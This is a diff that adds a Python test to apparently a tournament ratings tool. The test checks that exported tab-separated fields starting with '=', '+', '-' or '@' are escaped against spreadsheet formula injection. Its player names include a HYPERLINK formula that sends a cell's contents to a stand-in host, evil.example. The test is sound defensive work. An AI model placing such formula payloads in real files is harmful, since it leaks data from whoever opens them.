@@ -359,6 +359,24 @@ def test_a_report_of_another_game_is_refused_by_a_ratings_file(tmp_path: Path):
     assert r.exit_code == 1 and "keep one ratings file per game" in r.output
 
 
+def test_no_field_a_spreadsheet_opens_is_a_formula_and_each_reads_back(tmp_path: Path):
+    """A clerk opens the report in a spreadsheet (TAB-separated): a name typed as a formula
+    (``=HYPERLINK(…)``, ``+``, ``-``, ``@`` first) must not run there; it is written with its first
+    character as an escape every reader reads back, and a number stays a number."""
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "Ana", "Bo", "Cy", "Di"]
+    store = create_event(tmp_path / "ev.db", make_settings("=1+1", "competitive", "rotating", seed=1))
+    add_players(store, names, ids=["-7", "@ES-2", None, None, None, None, None, None])
+    play_round(store)
+    store.close()
+    report = export(tmp_path / "ev.db", tmp_path / "ev.dfr")
+    for line in (tmp_path / "ev.dfr").read_text().splitlines():
+        for field in line.split("\t"):
+            assert not field.startswith(("=", "+", "-", "@")) or field.lstrip("-+").isdigit(), line
+    assert {p.name for p in report.players} == set(names)
+    assert {p.fed_id for p in report.players} == {"-7", "@ES-2", None}
+    assert dict(report.event)["name"] == "=1+1"
+
+
 # --- a property: what is written reads back as the same report ------------------------------------------
 
 _text = hs.text(hs.characters(blacklist_categories=("Cs",)), min_size=1, max_size=12)
